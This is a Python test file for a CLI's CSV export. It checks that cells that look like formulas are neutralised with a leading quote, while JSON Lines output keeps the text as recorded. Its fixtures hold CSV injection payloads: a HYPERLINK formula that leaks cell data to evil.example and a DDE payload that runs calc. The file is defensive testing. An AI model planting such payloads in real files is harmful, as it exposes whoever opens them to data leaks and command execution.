"""`agm export --format csv`: a text cell a spreadsheet would run as a formula (an agent's
error text `=HYPERLINK(...)`, `+`, `-`, `@`, a tab) is written with a leading `'`, so opening
the export runs nothing; JSON Lines and Parquet keep the text as recorded, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from agentmetrology.cli.main import app
from agentmetrology.records import Event, Usage
from support import stores

# campaign c1: cells csv.writer quotes (a comma, a tab) beside formulas; c2: formulas only,
# plain text that the CSV line template would write as it is
DETAILS = {"c1": ['=HYPERLINK("http://evil.example/?"&A1,"click")', "\tlooks blank",
                  "plain, with a comma", "a=b stays"],
           "c2": ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1", "a=b stays"]}
MARKED = {"c1": ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'\tlooks blank",
                 "plain, with a comma", "a=b stays"],
          "c2": ["'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'=1+1", "a=b stays"]}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Per campaign one agent_error episode per detail (seed = its index), each FAIL 0.0."""
    root = tmp_path_factory.mktemp("formulas") / "s"
    with stores.open_store(root) as st:
        for name, details in DETAILS.items():
            keys = [stores.episode_key(s, name) for s in range(len(details))]
            st.register_campaign(name, name * 32, {"name": name}, stores.bindings(keys))
            run = st.begin_run(name, "inline")
            adm = {a.key: a for a in st.pending(name)}
            for k, detail in zip(keys, details, strict=True):
                ep = stores.episode(k, "agent_error", detail=detail, usage=Usage(1, 0, []),
                                    events=[Event(0, "agent", "tool_call", "x", {}, {}, 0.0)])
                st.record_episode(st.start_attempt(adm[k], run, "inline"), ep,
                                  [stores.assessment("ground_truth_f1", "FAIL", 0.0)])
            st.end_run(run, "done")
    return root


def _export(store: Path, out: Path, campaign: str) -> str:
    done = CliRunner().invoke(app, ["export", str(store), "--out", str(out), "--campaign",
                                    campaign])
    assert done.exit_code == 0, done.output
    return out.read_text(encoding="utf-8")


@pytest.mark.parametrize("campaign", ["c1", "c2"])
def test_csv_marks_formula_cells_and_nothing_else(store: Path, tmp_path: Path,
                                                  campaign: str) -> None:
    text = _export(store, tmp_path / "e.csv", campaign)
    rows = list(csv.DictReader(io.StringIO(text)))
    lines = [json.loads(x) for x in _export(store, tmp_path / "e.jsonl", campaign).splitlines()]
    assert [r["termination_detail"] for r in rows] == MARKED[campaign]
    assert [x["termination_detail"] for x in lines] == DETAILS[campaign]  # as recorded
    assert [(r["seed"], r["ground_truth_f1.score"], r["measurement_failure"]) for r in rows] \
        == [(str(i), "0.0", "") for i in range(len(DETAILS[campaign]))]
